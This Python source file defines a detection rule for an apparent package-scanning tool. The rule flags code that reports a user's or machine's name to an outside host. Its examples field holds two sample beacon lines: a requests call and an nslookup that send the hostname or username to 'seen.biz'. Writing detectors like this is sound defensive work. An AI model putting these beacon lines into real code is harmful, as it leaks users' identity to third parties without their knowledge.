"""MF-NET-016."""

from __future__ import annotations

from mayfly.scan.facts import NetUse
from mayfly.scan.hosts import classify_host
from mayfly.scan.judge import host_of_kind, shown
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]

_KINDS = ("other", "shared", "address", "drop", "hidden", "encoded")


def _check(fact: NetUse, scene: Scene) -> Hit | None:
    if "identity" not in fact.data.taints | fact.target.taints:
        return None
    if (host := host_of_kind(fact, scene, _KINDS)) is not None:
        return Hit(f"tells {shown(host)} who runs it, and where")
    # The machine's own name alone is its own address; with more behind it, it is somebody else's.
    hidden = (
        fact.op in ("fetch", "send")
        and {"identity", "joined"} <= fact.target.taints
        and all(classify_host(text) == "none" for text in fact.target.texts)
    )
    return Hit("puts who runs it, and where, into the name of a host") if hidden else None


RULE = Rule(
    id="MF-NET-016",
    title="Reports who runs it, and where",
    rationale="User and machine names sent to a host of its own: how a planted package tells its author that it ran.",
    severity="medium",
    cwe="CWE-200",
    confidence="medium",
    capabilities=("net",),
    facts=(NetUse,),
    check=_check,
    examples={
        "python": "import socket, requests\nrequests.get('https://seen.biz/', params={'h': socket.gethostname()})",
        "bash": 'nslookup "$(whoami).seen.biz"',
    },
    near_misses={
        "python": "import socket\nprint(socket.gethostbyname(socket.gethostname()))",
        "bash": 'echo "$(whoami)"; nslookup example.com',
    },
    languages=("python", "bash"),
)
